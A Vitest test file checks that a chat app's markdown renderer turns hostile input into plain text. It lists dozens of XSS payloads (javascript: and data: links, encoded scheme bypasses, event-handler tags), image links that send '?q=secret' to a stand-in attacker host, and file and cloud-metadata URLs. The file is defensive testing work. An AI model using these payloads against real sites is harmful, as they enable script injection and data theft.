import { expect, test } from 'vitest'
import { MarkdownBlock, MarkdownTail } from '../../src/web/Markdown.tsx'
import { TrustedHosts } from '../../src/web/ModelLink.tsx'
import { MAX_DEPTH } from '../../src/web/markdown-rendering.ts'
import { render } from './support/render.tsx'

const HOSTS = new Set(['nautobot.example'])

const SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript&#x3a;alert(1)',
  'javascript&#x3A;alert(1)',
  'javascript&#0000058;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6a;avascript&colon;alert(1)',
  'java&Tab;script:alert(1)',
  'java&NewLine;script:alert(1)',
  'java&#10;script:alert(1)',
  'javascript%3Aalert(1)',
  'javascript://nautobot.example/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:text/html,x',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://nautobot.example/1',
  'filesystem:https://nautobot.example/1',
  'view-source:https://nautobot.example/',
  'about:blank',
  'ftp://nautobot.example/',
  'ws://nautobot.example/',
  'tel:+1',
  'intent://nautobot.example/#Intent;end',
  'chrome://settings',
  '//evil.example/x',
  '/dcim/devices/',
  '?q=1',
  '#x',
  'https://evil.example/?q=secret',
  'https://nautobot.example.evil.example/',
  'https://nautobot.example@evil.example/',
  'https://user:pass@nautobot.example/',
  'https://nautobot.example:8443/',
  'https:\\\\evil.example',
  'https://evil.example\\@nautobot.example/',
  'https&colon;//evil.example/?q=secret',
  'http://169.254.169.254/latest/meta-data/'
]

const asLink = (address: string): string => `[click](<${address.replaceAll('\n', '&#10;')}>)`
const asBareLink = (address: string): string => `[click](${address})`
const asReference = (address: string): string => `[click][x]\n\n[x]: <${address}>`
const asAutolink = (address: string): string => `<${address}>`

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://nautobot.example/" onclick=alert(1)>x</a>',
  '<form action=https://evil.example><button>x</button></form>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<base href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<object data="javascript:alert(1)"></object>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<details open ontoggle=alert(1)>x</details>',
  '![x](https://evil.example/?q=secret)',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '![x][y]\n\n[y]: https://evil.example/?q=secret',
  '[![x](https://evil.example/a.png)](https://evil.example/)',
  '**[![x](https://evil.example/a.png)](javascript:alert(1))**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\nx\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '- [x] <img src=x onerror=alert(1)>',
  '> <iframe src=https://evil.example>',
  '# <img src=x onerror=alert(1)>',
  '[<img src=x onerror=alert(1)>](https://evil.example/)',
  '[x](https://evil.example/ "\\" onmouseover=alert(1)")',
  '<https://evil.example/"onmouseover="alert(1)>',
  '<ai-ops-chat base-url="https://evil.example"></ai-ops-chat>',
  '<br onclick=alert(1)>',
  '<input autofocus onfocus=alert(1)>'
]

const PAYLOADS = [
  ...SCHEMES.flatMap((address) => [asLink(address), asBareLink(address)]),
  ...SCHEMES.map(asReference),
  ...SCHEMES.map(asAutolink),
  ...MARKUP
]

const ELEMENTS =
  /^(A|P|BR|HR|H[3-6]|UL|OL|LI|EM|STRONG|DEL|CODE|PRE|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|TH|TD|SPAN|DIV|FIGURE|FIGCAPTION|BUTTON|SVG|RECT|PATH)$/
const ATTRIBUTES =
  /^(href|target|rel|class|title|role|aria-label|aria-hidden|tabindex|start|scope|type|viewBox|fill|stroke(-width|-linecap|-linejoin)?|focusable|x|y|width|height|rx|d)$/

function findings(container: HTMLElement): string[] {
  return [...container.querySelectorAll('*')].flatMap((element) => {
    const bad = [...element.attributes].filter(({ name }) => !ATTRIBUTES.test(name))
    const href = element.getAttribute('href')
    return [
      ...(ELEMENTS.test(element.tagName.toUpperCase()) ? [] : [`<${element.tagName}>`]),
      ...bad.map(({ name }) => `${element.tagName} ${name}`),
      ...(href !== null && !isOurs(href) ? [href] : [])
    ]
  })
}

const isOurs = (href: string): boolean =>
  href.startsWith('https://nautobot.example/') || href.startsWith('mailto:')

function markdown(text: string) {
  return render(
    <TrustedHosts value={HOSTS}>
      <MarkdownBlock text={text} />
      <MarkdownTail text={text} />
    </TrustedHosts>
  )
}

test.each(PAYLOADS)('%j stays text', (payload) => {
  using rendered = markdown(payload)
  expect(findings(rendered.container)).toEqual([])
})

test('every payload stays text when it is cut at any character', () => {
  for (const payload of MARKUP) {
    for (let end = 1; end < payload.length; end += 1) {
      using rendered = markdown(payload.slice(0, end))
      expect(findings(rendered.container), payload.slice(0, end)).toEqual([])
    }
  }
})

test('a link on a host of ours is a link, in a tab of its own', () => {
  using rendered = markdown('[devices](https://nautobot.example/dcim/?a=1&amp;b=2)')
  const link = rendered.container.querySelector('a')
  expect(link?.href).toBe('https://nautobot.example/dcim/?a=1&b=2')
  expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer'])
})

test('a mail address is a link', () => {
  using rendered = markdown('<noc@example.org>')
  expect(rendered.container.querySelector('a')?.href).toBe('mailto:noc@example.org')
})

test('a foreign address is shown, not linked', () => {
  using rendered = markdown('[here](https://evil.example/?q=secret)')
  expect(rendered.container.querySelector('a')).toBeNull()
  expect(rendered.container.textContent).toContain('here (https://evil.example/?q=secret)')
})

test('character references are decoded once', () => {
  using rendered = render(<MarkdownBlock text={'R&amp;D &lt;b&gt; &amp;lt; &#8364; &bogus;'} />)
  expect(rendered.container.textContent).toBe('R&D <b> &lt; € &bogus;')
})

test('a line break in a table cell is one', () => {
  using rendered = render(<MarkdownBlock text={'| a |\n|---|\n| x<br>y |'} />)
  expect(rendered.container.querySelectorAll('td br')).toHaveLength(1)
})

test('nesting beyond the limit is shown as text', () => {
  using rendered = render(<MarkdownBlock text={`${'> '.repeat(MAX_DEPTH + 40)}deep`} />)
  expect(rendered.container.querySelectorAll('blockquote').length).toBeLessThanOrEqual(
    MAX_DEPTH + 1
  )
  expect(rendered.container.textContent).toContain('deep')
})

test('text that overwhelms the lexer is still shown', () => {
  using rendered = render(<MarkdownBlock text={`${'>'.repeat(20_000)}end`} />)
  expect(rendered.container.textContent).toContain('end')
})
